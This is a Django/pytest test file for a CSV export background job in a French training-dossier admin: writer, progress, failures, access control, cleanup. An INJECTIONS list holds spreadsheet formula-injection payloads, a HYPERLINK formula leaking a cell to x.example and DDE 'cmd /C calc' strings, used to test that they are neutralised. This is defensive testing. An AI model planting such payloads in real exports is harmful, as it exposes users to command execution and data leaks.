"""« Exporter en CSV » as a background job (``dossiers/instruction/export.py``, ``tasks.py``, the admin's export views):
the writer, the job's progress and failure, the progress page, who may download, the cleanup."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dossiers.enums import DossierState, EtatExport, TypeModule
from dossiers.instruction import export
from dossiers.instruction.tasks import exporter_dossiers, nettoyer_exports
from dossiers.models import Dossier, ExportDossiers, ModuleFormation
from referentiels.models import OrganismeFormation
from tests.conftest import client_for
from tests.factories import DossierFactory, UserFactory

pytestmark = pytest.mark.django_db

EXPORT = "/admin/dossiers/dossier/export/"


def transmis(n: int = 1, **kwargs) -> list[Dossier]:
    dossiers = [DossierFactory(state=DossierState.TRANSMIS, **kwargs) for _ in range(n)]
    Dossier.objects.filter(pk__in=[d.pk for d in dossiers]).update(transmis_le=timezone.now() - dt.timedelta(days=3))
    return dossiers


def lire(contenu: str) -> list[dict[str, str]]:
    entetes, *lignes = csv.reader(io.StringIO(contenu.removeprefix("\ufeff")), delimiter=";")
    return [dict(zip(entetes, ligne, strict=True)) for ligne in lignes]


@pytest.fixture
def akto(gestionnaire):
    return client_for(gestionnaire)


def job_de(user, etat=EtatExport.EN_ATTENTE, **kwargs) -> ExportDossiers:
    return ExportDossiers.objects.create(demandeur=user, etat=etat, **kwargs)


# -- the writer --------------------------------------------------------------------------------------------------


def test_ecrire_csv_text_or_binary_with_progress_by_chunk(monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)
    dossiers = transmis(5)
    queryset = Dossier.objects.filter(pk__in=[d.pk for d in dossiers]).order_by("pk")
    progres = []
    texte = io.StringIO(newline="")
    assert export.ecrire_csv(queryset, texte, progres.append) == 5
    assert progres == [2, 4, 5]
    binaire = io.BytesIO()
    assert export.ecrire_csv(queryset, binaire) == 5
    assert not binaire.closed and binaire.getvalue().decode("utf-8") == texte.getvalue()
    assert binaire.getvalue().startswith(b"\xef\xbb\xbfNum\xc3\xa9ro;")
    assert [ligne["Numéro"] for ligne in lire(texte.getvalue())] == [d.numero for d in dossiers]
    assert {ligne["Jours depuis la transmission"] for ligne in lire(texte.getvalue())} == {"3"}


def test_ecrire_csv_queries_by_chunk_not_by_row(monkeypatch):
    """The rows and their first module in one query read by chunks (PostgreSQL: a cursor, between a SET and a RESET
    of its planning): as many queries for 3 rows as for 9, in 2 chunks or 5."""
    monkeypatch.setattr(export, "CHUNK", 2)

    def requetes(n):
        Dossier.objects.all().delete()
        for dossier in transmis(n):
            ModuleFormation.objects.create(formation=dossier.formation, type=TypeModule.INTERNE)
        with CaptureQueriesContext(connection) as capture:
            export.ecrire_csv(Dossier.objects.order_by("pk"), io.StringIO())
        return len(capture)

    assert requetes(3) == requetes(9) <= 3


def test_first_module_gives_the_main_organisme():
    interne, externe, sans = transmis(3)
    organisme = OrganismeFormation.objects.create(siret="77000002400016", raison_sociale="ECOLE DES METIERS")
    ModuleFormation.objects.create(formation=interne.formation, ordre=1, type=TypeModule.INTERNE)
    ModuleFormation.objects.create(formation=interne.formation, ordre=2, type=TypeModule.EXTERNE, organisme=organisme)
    ModuleFormation.objects.create(formation=externe.formation, ordre=2, type=TypeModule.INTERNE)
    ModuleFormation.objects.create(formation=externe.formation, ordre=1, type=TypeModule.EXTERNE, organisme=organisme)
    sortie = io.StringIO()
    export.ecrire_csv(Dossier.objects.order_by("pk"), sortie)
    organismes = {ligne["Numéro"]: ligne["Organisme de formation principal"] for ligne in lire(sortie.getvalue())}
    assert organismes == {interne.numero: "Formation interne", externe.numero: "ECOLE DES METIERS", sans.numero: ""}


# OWASP's dangerous first characters, each in a value an adhérent may type (a name, a first name, a title…).
INJECTIONS = [
    '=HYPERLINK("http://x.example/?"&A1;"Ici")',  # fits the 50 characters of a name
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SOMME(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("valeur", INJECTIONS)
def test_a_typed_formula_is_written_as_text(valeur):
    """Each dangerous prefix gets a ``'`` (Excel shows the text, evaluates nothing); the separator, the quotes and
    the line breaks stay correctly quoted: the cell reads back whole, in its column."""
    (dossier,) = transmis()
    Salarie = type(dossier.salarie)
    Salarie.objects.filter(pk=dossier.salarie.pk).update(nom_naissance=valeur, prenom=valeur)
    type(dossier.formation).objects.filter(pk=dossier.formation.pk).update(intitule=valeur)
    sortie = io.StringIO(newline="")
    export.ecrire_csv(Dossier.objects.order_by("pk"), sortie)
    (ligne,) = lire(sortie.getvalue())
    for colonne in ("Nom de naissance", "Prénom", "Formation"):
        assert ligne[colonne] == "'" + valeur
    assert ligne["Numéro"] == dossier.numero  # the columns did not shift
    for cellule in ligne.values():
        assert not cellule or cellule[0] not in "=+-@\t\r"


def test_numbers_the_portal_formats_stay_numbers():
    """A negative amount (``-12,50``) is a number, no formula: left as it is; anything else starting with ``-`` is
    text."""
    assert export.neutraliser(export._montant(Decimal("-12.50"))) == "-12,50"
    assert export.neutraliser("-3") == "-3"
    assert export.neutraliser("1234,56") == "1234,56"
    assert export.neutraliser("-1,5+2") == "'-1,5+2"
    assert export.neutraliser("-") == "'-"
    assert export.neutraliser("Dupont-Martin") == "Dupont-Martin"
    assert export.neutraliser("") == ""


# -- the job -------------------------------------------------------------------------------------------------


def test_the_task_writes_the_list_the_gestionnaire_saw_and_records_progress(gestionnaire, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 2)
    a_traiter = transmis(3)
    DossierFactory(state=DossierState.ACCEPTE)  # not in the default list (À traiter)
    job = job_de(gestionnaire, parametres="o=-3&p=2")  # newest transmission first; the page is not kept
    vus = []  # the job's row as the progress page reads it, after each chunk
    ecrire = export.ecrire_csv

    def espion(queryset, fichier, progression):
        def suivi(faites):
            progression(faites)
            vus.append(ExportDossiers.objects.values_list("etat", "lignes_faites", "lignes_total").get(pk=job.pk))

        return ecrire(queryset, fichier, suivi)

    monkeypatch.setattr(export, "ecrire_csv", espion)
    assert exporter_dossiers(job.pk) == EtatExport.PRET
    job.refresh_from_db()
    assert vus == [(EtatExport.EN_COURS, 2, 3), (EtatExport.EN_COURS, 3, 3)]
    assert (job.etat, job.lignes_faites, job.lignes_total, job.erreur) == (EtatExport.PRET, 3, 3, "")
    assert job.termine_le is not None and job.fichier.name.startswith("exports/")
    with job.fichier.open("rb") as fichier:
        lignes = lire(fichier.read().decode("utf-8"))
    assert sorted(ligne["Numéro"] for ligne in lignes) == sorted(d.numero for d in a_traiter)
    assert exporter_dossiers(job.pk) == "ignore"  # a redelivered task does nothing twice


def test_a_failure_is_recorded_and_shown(akto, gestionnaire):
    job = job_de(gestionnaire, parametres="etat=inconnu&dispositif__id__exact=abc")  # refused by the changelist
    assert exporter_dossiers(job.pk) == EtatExport.ECHEC
    job.refresh_from_db()
    assert job.etat == EtatExport.ECHEC and job.erreur == export.MSG_ECHEC and not job.fichier
    page = akto.get(f"{EXPORT}{job.pk}/").content.decode()
    assert "exportez-la à nouveau" in page and "Télécharger" not in page and "hx-trigger" not in page


def test_a_demandeur_who_lost_the_back_office_gets_no_file(gestionnaire):
    transmis(1)
    job = job_de(gestionnaire)
    gestionnaire.is_staff = False
    gestionnaire.save()
    assert exporter_dossiers(job.pk) == EtatExport.ECHEC


def test_the_progress_page_polls_until_ready(akto, gestionnaire):
    job = job_de(gestionnaire, etat=EtatExport.EN_COURS, lignes_total=100_000, lignes_faites=24_000)
    page = akto.get(f"{EXPORT}{job.pk}/").content.decode()
    assert "Export en cours : 24000 / 100000 lignes." in page
    assert 'hx-trigger="every 1s"' in page and 'aria-live="polite"' in page and "htmx.min.js" in page
    partiel = akto.get(f"{EXPORT}{job.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert "<html" not in partiel and "24000 / 100000" in partiel and 'hx-trigger="every 1s"' in partiel
    ExportDossiers.objects.filter(pk=job.pk).update(etat=EtatExport.PRET, lignes_faites=100_000)
    partiel = akto.get(f"{EXPORT}{job.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert "Télécharger le fichier CSV" in partiel and "hx-trigger" not in partiel


def test_the_export_is_a_post(akto):
    response = akto.get(EXPORT)
    assert response.status_code == 302 and response.url == "/admin/dossiers/dossier/"
    assert not ExportDossiers.objects.exists()


def test_eager_mode_writes_the_file_within_the_request(akto, django_capture_on_commit_callbacks):
    transmis(2)
    with django_capture_on_commit_callbacks(execute=True):
        akto.post(f"{EXPORT}?etat=tous")
    job = ExportDossiers.objects.get()
    assert (job.etat, job.lignes_faites, job.parametres) == (EtatExport.PRET, 2, "etat=tous")


# -- who may download ------------------------------------------------------------------------------------------


@pytest.fixture
def pret(gestionnaire, django_capture_on_commit_callbacks):
    transmis(1)
    with django_capture_on_commit_callbacks(execute=True):
        client_for(gestionnaire).post(EXPORT)
    job = ExportDossiers.objects.get()
    assert job.etat == EtatExport.PRET
    return job


def test_only_its_gestionnaire_downloads_the_file(pret, akto, django_user_model):
    from dossiers.acces import groupe_gestionnaires
    from portal.models import Role

    assert akto.get(f"{EXPORT}{pret.pk}/fichier/").status_code == 200
    autre = UserFactory(role=Role.GESTIONNAIRE, is_staff=True)
    autre.groups.add(groupe_gestionnaires())
    for url in (f"{EXPORT}{pret.pk}/", f"{EXPORT}{pret.pk}/fichier/"):
        assert client_for(autre).get(url).status_code == 404
    for role in ("adherent", "prestataire"):
        response = client_for(UserFactory(role=role)).get(f"{EXPORT}{pret.pk}/fichier/")
        assert response.status_code == 302 and response.url.startswith("/admin/login/")


def test_no_file_before_it_is_ready(akto, gestionnaire):
    job = job_de(gestionnaire, etat=EtatExport.EN_COURS)
    assert akto.get(f"{EXPORT}{job.pk}/fichier/").status_code == 404


def test_the_file_is_not_under_the_media_url(pret, settings):
    from pathlib import Path

    chemin = Path(pret.fichier.path)
    assert chemin.is_file() and not chemin.is_relative_to(Path(settings.MEDIA_ROOT))
    assert chemin.is_relative_to(Path(settings.STORAGES["exports"]["OPTIONS"]["location"]))


# -- the cleanup -------------------------------------------------------------------------------------------------


def test_old_exports_and_their_files_are_deleted(pret, gestionnaire):
    recent = job_de(gestionnaire)
    storage, nom = pret.fichier.storage, pret.fichier.name
    ExportDossiers.objects.filter(pk=pret.pk).update(cree_le=timezone.now() - dt.timedelta(days=8))
    assert nettoyer_exports() == 1
    assert list(ExportDossiers.objects.all()) == [recent] and not storage.exists(nom)


def test_beat_runs_the_cleanup(settings):
    from portal.celery import app

    (entree,) = [e for e in settings.CELERY_BEAT_SCHEDULE.values() if e["task"] == "dossiers.tasks.nettoyer_exports"]
    assert entree["task"] in app.tasks and "dossiers.tasks.exporter_dossiers" in app.tasks
